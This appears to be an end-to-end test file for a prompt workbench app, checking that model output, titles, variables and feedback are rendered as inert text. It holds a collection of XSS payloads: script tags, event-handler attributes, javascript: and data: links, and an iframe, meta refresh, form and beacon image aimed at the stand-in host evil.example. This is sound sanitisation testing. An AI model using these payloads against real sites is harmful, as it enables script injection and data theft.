// Text that wants to be more than text: nothing in it runs, loads or leads anywhere by itself.

import { expect, open, test } from '../support/test.ts';
import { Workbench } from '../support/workbench.ts';

const HOSTILE = `<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 2"> <svg onload="window.pwned = 3"><a href="javascript:window.pwned=4">svg</a></svg>
<iframe src="https://evil.example/frame"></iframe><style>body { display: none }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<form action="https://evil.example/"><button>Run</button></form><!-- comment

![beacon](https://evil.example/beacon.png?secret) [click me](javascript:window.pwned=5)
[sly](JaVaScRiPt:alert(1)) [data](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd)
[honest](https://example.org/page) <https://example.org/auto>

\`\`\`html
</code></pre><script>window.pwned = 6</script>
\`\`\`

\u202Egnirts desrever\u202C "><script>window.pwned = 7</script> \${alert(8)} {{alert(9)}}

| a | b |
| - | - |
| <b onmouseover="window.pwned = 10">x</b> | ${'w'.repeat(2000)} |`;

test.use({ providers: ['openai'] });

test('a hostile output is shown as text', async ({ page, studio, context }) => {
  page.on('dialog', () => expect(false, 'a dialog opened').toBe(true));
  const path = await studio.create({
    title: 'Hostile "><script>window.pwned = 11</script>',
    tags: ['<img src=x onerror=alert(1)>'],
    prompt: { text: HOSTILE },
    model: 'openai/echo',
    alignmentModel: 'openai/echo',
  });
  const bench = await Workbench.open(page, path);
  await bench.run();
  const isHarmless = async () => {
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    await expect(bench.prompt).toBeVisible();
    const output = bench.output;
    for (const dangerous of ['script', 'img', 'svg', 'iframe', 'style', 'meta', 'base', 'form', 'object']) {
      await expect(output.locator(dangerous)).toHaveCount(0);
    }
    const attributes = await output.evaluate((root) =>
      [...root.querySelectorAll('*')].flatMap((element) =>
        [...element.attributes].map(({ name, value }) => `${name}=${value}`),
      ),
    );
    expect(attributes.filter((it) => /^(on|style=|srcdoc)/i.test(it))).toEqual([]);
    expect(attributes.filter((it) => /^(href|src|action)=(?!https?:|mailto:)/i.test(it))).toEqual([]);
  };
  await isHarmless();
  await expect(bench.output).toContainText('<script>window.pwned = 1</script>');

  // A link leads out only when it is pressed, in a page of its own that knows nothing of this one.
  const link = bench.output.getByRole('link', { name: 'honest' });
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', /noopener/);
  await expect(bench.output.getByRole('link', { name: /click me|sly|data|file|svg/ })).toHaveCount(0);

  await bench.outputRegion.getByRole('radio', { name: 'Raw' }).check();
  await isHarmless();
  await bench.draftFrom(HOSTILE);
  await bench.acceptAndRun(2);
  await page.getByRole('button', { name: 'Compare with v1' }).click();
  await isHarmless();
  expect(context.pages()).toHaveLength(1);

  await bench.openHistory();
  await expect(bench.versions).toHaveCount(2);
  for (const other of [`${path}/versions/2`, '/', '/?q=%3Cscript%3Ealert(1)%3C/script%3E']) {
    await open(page, other);
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    await expect(page.getByRole('main').locator('script, img, iframe, svg')).toHaveCount(0);
  }
});

test('a variable, a value and feedback are text as well', async ({ page, studio }) => {
  const path = await studio.create({
    title: 'Value',
    prompt: { text: 'Say {thing}.' },
    values: { thing: HOSTILE },
    model: 'openai/echo',
  });
  const bench = await Workbench.open(page, path);
  await expect(bench.variable('thing')).toHaveValue(HOSTILE);
  await bench.run();
  await bench.feedback.fill(HOSTILE);
  await page.getByRole('button', { name: 'Add another' }).click();
  await expect(bench.pieces).toContainText('window.pwned = 1');
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
});
